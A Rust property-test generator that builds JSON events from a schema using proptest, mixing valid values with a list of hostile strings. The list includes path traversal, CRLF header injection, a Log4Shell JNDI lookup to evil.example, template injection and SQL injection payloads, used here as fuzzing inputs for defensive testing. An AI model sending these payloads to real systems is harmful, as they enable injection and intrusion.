//! Makes events from a schema: their form is right, their texts are not to be trusted.

use proptest::{prelude::*, string::string_regex};
use serde_json::{Map, Value, json};

/// Texts that have broken other systems.
static HOSTILE: [&str; 24] = [
    "",
    " ",
    ".",
    "..",
    "../../admin",
    "..\\..\\admin",
    "%2e%2e%2f",
    "a/b",
    "//evil.example",
    "a?b=c&d#e",
    "x\r\nX-Injected: 1",
    "x\ny",
    "%0d%0aSet-Cookie: a=b",
    "\u{0}",
    "\u{7f}",
    "\u{2028}\u{2029}",
    "\u{202e}gnp.exe",
    "\u{feff}x",
    "\\(.data)",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "'; drop table x; --",
    "e\u{301}\u{1f4a3}",
    "Ticket: T-1\r\nTicket: T-2/../..",
];

/// Amounts that are money, and some that only look like it.
static AMOUNTS: [&str; 10] =
    ["12.50", "0.01", "1", "0.285", "-1.00", "1e3", "NaN", "9999999999999999999999.99", "1,50", ""];

/// Values that fit `part` of the schema `root`, more or less; `words` are texts that mean something to the mapping.
pub(crate) fn of(root: &Value, part: &Value, words: &[String]) -> BoxedStrategy<Value> {
    if let Some(pointer) = part.get("$ref").and_then(Value::as_str) {
        let target = root.pointer(pointer.trim_start_matches('#')).expect("a part of the schema");
        return of(root, target, words);
    }
    if let Some(value) = part.get("const") {
        return Just(value.clone()).boxed();
    }
    if let Some(values) = part.get("enum").and_then(Value::as_array) {
        return proptest::sample::select(values.clone()).boxed();
    }
    let kinds: Vec<&str> = match part.get("type") {
        Some(Value::String(kind)) => vec![kind],
        Some(Value::Array(kinds)) => kinds.iter().filter_map(Value::as_str).collect(),
        _ => vec!["string"],
    };
    if kinds == ["string", "number"] {
        return amount();
    }
    let kinds: Vec<_> = kinds.into_iter().map(|kind| of_kind(root, part, words, kind)).collect();
    proptest::strategy::Union::new(kinds).boxed()
}

fn of_kind(root: &Value, part: &Value, words: &[String], kind: &str) -> BoxedStrategy<Value> {
    match kind {
        "object" => object(root, part, words),
        "array" => {
            let least = number(part, "minItems", 0);
            let items = of(root, part.get("items").unwrap_or(&Value::Bool(true)), words);
            proptest::collection::vec(items, least..least + 3).prop_map(Value::Array).boxed()
        }
        "integer" | "number" => {
            let least = i64::try_from(number(part, "minimum", 0)).unwrap_or(0);
            prop_oneof![9 => least..least + 1_000_000, 1 => any::<i64>()]
                .prop_map(Value::from)
                .boxed()
        }
        "boolean" => any::<bool>().prop_map(Value::Bool).boxed(),
        "null" => Just(Value::Null).boxed(),
        _ => text(part, words),
    }
}

/// Every required member, and each other one as often as not.
fn object(root: &Value, part: &Value, words: &[String]) -> BoxedStrategy<Value> {
    let properties = part.get("properties").and_then(Value::as_object).cloned().unwrap_or_default();
    let required: Vec<&str> = part
        .get("required")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .collect();
    let members: Vec<_> = properties
        .iter()
        .map(|(name, value)| {
            let (name, must) = (name.clone(), required.contains(&name.as_str()));
            (any::<bool>(), of(root, value, words))
                .prop_map(move |(there, value)| (must || there).then(|| (name.clone(), value)))
        })
        .collect();
    members
        .prop_map(|members| Value::Object(members.into_iter().flatten().collect::<Map<_, _>>()))
        .boxed()
}

fn text(part: &Value, words: &[String]) -> BoxedStrategy<Value> {
    let fitting = match (part.get("pattern"), part.get("format")) {
        (Some(Value::String(pattern)), _) => {
            let inner = pattern.trim_start_matches('^').trim_end_matches('$');
            string_regex(inner).expect("a pattern").boxed()
        }
        (_, Some(Value::String(format))) => form(format),
        _ => prop_oneof!["\\PC{1,20}", "[A-Za-z]{2,9}"].boxed(),
    };
    let known = words.iter().filter(|word| jsonschema::is_valid(part, &json!(word)));
    let known: Vec<String> = known.cloned().collect();
    let known = match known.is_empty() {
        true => fitting.clone(),
        false => proptest::sample::select(known).boxed(),
    };
    let hostile = proptest::sample::select(&HOSTILE[..]).prop_map(str::to_owned);
    prop_oneof![6 => fitting, 6 => known, 1 => hostile, 1 => any::<String>()]
        .prop_map(Value::String)
        .boxed()
}

fn form(format: &str) -> BoxedStrategy<String> {
    match format {
        "date" => "20[0-9]{2}-0[1-9]-[12][0-9]".boxed(),
        "date-time" => "20[0-9]{2}-0[1-9]-[12][0-9]T1[0-9]:[0-5][0-9]:[0-5][0-9]Z".boxed(),
        "email" => "[a-z]{1,8}@[a-z]{1,8}[.]example".boxed(),
        "uri" => "https://github[.]com/[a-z]{1,8}/[a-z]{1,8}".boxed(),
        _ => "\\PC{1,20}".boxed(),
    }
}

fn amount() -> BoxedStrategy<Value> {
    let exact = (0_u32..1_000_000).prop_map(|cents| format!("{}.{:02}", cents / 100, cents % 100));
    let odd = proptest::sample::select(&AMOUNTS[..]).prop_map(str::to_owned);
    prop_oneof![
        6 => exact.prop_map(Value::String),
        2 => odd.prop_map(Value::String),
        1 => (0_i64..1_000_000).prop_map(Value::from),
        1 => Just(json!(0.1)),
    ]
    .boxed()
}

fn number(part: &Value, name: &str, usual: usize) -> usize {
    let said = part.get(name).and_then(Value::as_u64);
    said.and_then(|number| usize::try_from(number).ok()).unwrap_or(usual)
}
